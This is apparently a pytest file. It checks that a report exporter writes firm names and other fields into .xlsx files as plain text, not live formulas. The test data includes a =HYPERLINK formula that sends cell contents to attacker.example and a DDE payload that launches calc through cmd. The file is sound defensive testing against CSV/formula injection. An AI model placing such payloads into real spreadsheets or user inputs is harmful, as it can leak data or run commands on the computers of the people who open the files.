"""The weekly report's .xlsx holds every text as a text cell, never a formula (issue 11, finding 3):
a firm that names its park `=HYPERLINK(...)` through the status API finds it as plain text in the
by-park sheet of the report downloaded from the API and from the page."""
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from matchmaker.infra.spreadsheets import FORMULA_STARTS
from matchmaker.services import auth, reports
from matchmaker.services.reports import export
from tests import factories as f
from tests.reports.test_report_vocabulary import PAPER_WORDS, _data

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&B3,"open details")'


def _formulas(xlsx: bytes):
    """The formula elements of every sheet, and the number of cells and of inline-string cells."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    return re.findall(r"<f[ >]", xml), xml.count('t="inlineStr"'), xml.count("t=\"s\"")


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_text_of_the_workbook_is_a_text_cell(start):
    data = _data()
    data["monitoring"]["by_park"][0]["park"] = start + "1+1"
    data["breaks"][0].update(buyer=HYPERLINK, category="=cmd|' /C calc'!A0", path=["@x", "-1"])
    xlsx = export.report_workbook(data, PAPER_WORDS).getvalue()
    formulas, inline, shared = _formulas(xlsx)
    assert formulas == [] and inline > 20 and shared == 0
    book = load_workbook(io.BytesIO(xlsx))
    park = book["按园区复工"]["A2"]
    assert park.data_type == "s"
    assert park.value == start + "1+1"  # a carriage return is written as a character reference: kept
    assert [c.value for c in book["断链清单"][2]][2:5] == [HYPERLINK, "=S", "=cmd|' /C calc'!A0"]


def test_a_park_set_through_the_api_is_text_in_the_downloaded_report(client, db, app):
    lead = f.firm("B", kind="leading", region_code="230102")
    sme = f.firm("S1", region_code="230102", operating=False, blockers=["labour"], park="园区")
    f.link(sme, lead, "C1", 10.0)
    firm_user, staff = f.user("firm", firm_row=sme), f.user("staff", region_code="230102")
    db.session.commit()
    token = {"Authorization": f"Bearer {auth.issue_token(firm_user)}"}
    resp = client.put(f"/api/v1/firms/{sme.id}/status", json={"park": HYPERLINK}, headers=token)
    assert resp.status_code == 200, resp.json
    reports.write_weekly_report("2020-W12")
    api = client.get("/api/v1/reports/2020-W12/xlsx", headers={"Authorization": f"Bearer {auth.issue_token(staff)}"})
    assert api.status_code == 200
    assert client.post("/login", data={"email": staff.email, "password": "correct horse 1"}).status_code == 302
    page = client.get("/taskforce/report.xlsx?week=2020-W12")
    assert page.status_code == 200
    for xlsx in (api.data, page.data):
        assert _formulas(xlsx)[0] == []
        cells = [c for row in load_workbook(io.BytesIO(xlsx))["按园区复工"].iter_rows() for c in row]
        park = [c for c in cells if c.value == HYPERLINK]
        assert park and all(c.data_type == "s" for c in park)
